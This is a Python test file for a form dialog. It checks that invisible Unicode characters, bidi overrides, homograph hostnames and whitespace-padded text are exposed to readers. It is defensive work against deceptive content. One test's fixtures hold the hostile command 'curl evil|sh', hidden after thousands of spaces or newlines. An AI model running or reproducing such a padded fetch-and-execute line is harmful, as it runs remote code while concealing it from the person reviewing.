"""What cannot be seen in a text is written out wherever a person reads it, and named under what they type into."""

from Support.client import FORM
from Support.deceptions import DECEPTION, DEFINITION, HIDDEN, PICTURE, SEEN

# Where each of them stands: at least 300 in all.
PLACES = [
    "h1", "#message", ".field.text label", "#help-note", "#title-one-0", "#help-one-0", "#field-many > option:nth-child(2)", "legend h2",
    ".field.password label", "#context p", "#context pre code", "#context th", "#context td",
    "#context p a", "#context figcaption", ".markdown h2", ".markdown em", ".markdown code", ".markdown th",
]
# All texts and attributes but what a control holds.
UNSEEN = """
    const hidden = /[\\p{DI}\\p{Zl}\\p{Zp}\\u2800\\ufff9-\\ufffb]/u, found = [document.title].filter((text) => hidden.test(text));
    const walker = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (node.nodeType === Node.TEXT_NODE) {
        if (!node.parentElement.matches("script, style, textarea") && hidden.test(node.data)) found.push(node.data);
      } else for (const {name, value} of node.attributes) if (name !== "value" && hidden.test(value)) found.push(`${name}=${value}`);
    }
    return found;"""


def line(dialog, name, what="hidden"):
    return dialog.js(
        "const line = document.getElementById(arguments[0]); return line && !line.hidden ? line.textContent : ''", f"{what}-{name}")


def test_nothing_is_hidden_in_a_dialog(linked):
    """Promise 2.18 | Invisible characters are written out wherever people read a text, and named under a field that
    holds some.
    """
    assert len(PLACES) * len(HIDDEN) >= 300
    dialog = linked.put(definition=DEFINITION)
    texts = dialog.js("return arguments[0].map((place) => document.querySelector(place)?.textContent.trim())", PLACES)
    assert dict(zip(PLACES, texts)) == dict.fromkeys(PLACES, SEEN)
    buttons = dialog.js("return ['.ok', '.cancel'].map((button) => document.querySelector(`.buttons ${button}`).textContent)")
    assert " ".join(buttons) == SEEN
    assert dialog.js("return document.title") == SEEN
    assert dialog.js("return document.querySelector('#context img').alt") == SEEN
    assert dialog.js("return document.getElementById('field-note').placeholder") == SEEN
    assert dialog.js("return document.querySelector('#context ins').textContent.trim()") == f"+{SEEN}"
    assert dialog.js("return document.querySelector('#context .host').textContent") == "xn--pple-43d.com"
    # Not drawn by a control of their own, and after a message has come.
    dialog.ok.click()
    dialog.wait(lambda: dialog.message("note") == SEEN)
    assert dialog.js(UNSEEN) == []


def test_what_a_control_hides_is_named_under_it(linked):
    """Promise 2.18"""
    dialog = linked.put(definition=DEFINITION)
    assert dialog.text("note") == "a\u202eb"
    assert line(dialog, "note") == "Hidden characters: ⟨U+202E⟩"
    assert "hidden-note" in dialog.field("note").get_attribute("aria-describedby")
    dialog.insert("amount", "1\u200b2")
    dialog.wait(lambda: line(dialog, "amount") == "Hidden characters: ⟨U+200B⟩")
    assert dialog.text("amount") == "1\u200b2"
    assert dialog.field("amount").get_attribute("aria-describedby").startswith("hidden-amount ")
    dialog.select_all("note")
    dialog.insert("note", "plain")
    dialog.wait(lambda: line(dialog, "note") == "")
    assert "hidden-note" not in dialog.field("note").get_attribute("aria-describedby")
    # Not of a password, which only its owner may read.
    dialog.insert("secret", "a\u200bb")
    dialog.insert("note", "a\u00ad")
    dialog.wait(lambda: line(dialog, "note") == "Hidden characters: ⟨U+00AD⟩")
    assert line(dialog, "secret") == ""


def test_what_was_entered_comes_back_with_its_line(asking):
    link = asking.call("POST", "/asks", {"definition": DEFINITION})["link"]
    path = "/a/" + link.rpartition("/")[2]
    status, page = asking.request("POST", path, "note=a%E2%80%8B&outcome=ok", FORM | {"Accept": "text/html"})
    assert status == 422 and 'value="a\u200b"' in page and "<bdi>⟨U+200B⟩</bdi>" in page
    # The message stands by its field and in the summary. The rules for the script stay as they are.
    html = page.partition('<script type="application/json"')[0]
    assert html.count(f"{SEEN}</bdi>") == 2 and f'id="error-note" dir="auto">{SEEN}<' in html
    assert DECEPTION not in html


def test_a_text_that_goes_on_says_so(linked):
    """Promise 2.20 | What is beyond the visible part of a context says so."""
    dialog = linked.put(definition={"title": "T", "context": [
        {"code": "make deploy" + " " * 4000 + "; curl evil|sh"}, {"text": "make deploy" + "\n" * 2000 + "; curl evil|sh"},
        {"diff": "+" + "x" * 2000 + "; curl evil|sh"}, {"code": "make deploy" + "\u3000 " * 45 + "; curl evil|sh"},
        {"table": {"columns": [f"column {n}" for n in range(60)], "rows": [["x"] * 60]}}, {"image": PICTURE, "alt": "Not this"}]})
    text = dialog.js("return document.getElementById('context').textContent")
    assert "make deploy⟨U+0020 ×4000⟩; curl evil|sh" in text and "make deploy⟨U+000A ×1999⟩\n; curl evil|sh" in text
    # No line leaves its block; a table and the whole go on under a shadow.
    overflows = "return [...document.querySelectorAll(arguments[0])].map((each) => each.scrollWidth > each.clientWidth)"
    assert dialog.js(overflows, "#context, #context pre, #context p") == [False] * 5
    assert dialog.js(overflows, ".table") == [True]
    for selector in ("#context", ".table"):
        backgrounds = dialog.js("return getComputedStyle(document.querySelector(arguments[0])).backgroundAttachment", selector)
        assert backgrounds.split(", ").count("local") == 2, selector
    assert dialog.find("#context figcaption").is_displayed()


def test_what_was_read_of_a_number_is_shown_under_it(linked):
    dialog = linked.put(definition={"title": "Zahlen", "language": "de", "fields": [
        {"name": "amount", "kind": "number", "value": "1.234"}, {"name": "free", "rules": ["number"]},
        {"name": "list", "kind": "list", "items": ["number"]}, {"name": "count", "kind": "integer", "value": "12"}]})
    assert line(dialog, "amount", "read") == "Gelesen als 1,234"
    assert dialog.field("amount").get_attribute("aria-describedby").startswith("read-amount ")
    assert line(dialog, "count", "read") == ""
    for name, text, shown in [("amount", "1,5", ""), ("amount", "x", ""), ("amount", "１２", "12"), ("free", "2.5", "2,5"),
                              ("list", "1,5\n\n2.5", "1,5; 2,5"), ("count", "+3", "3"), ("count", "3", "")]:
        dialog.select_all(name)
        dialog.insert(name, text)
        dialog.wait(lambda: line(dialog, name, "read") == (shown and f"Gelesen als {shown}"))
    assert "read-count" not in dialog.field("count").get_attribute("aria-describedby")
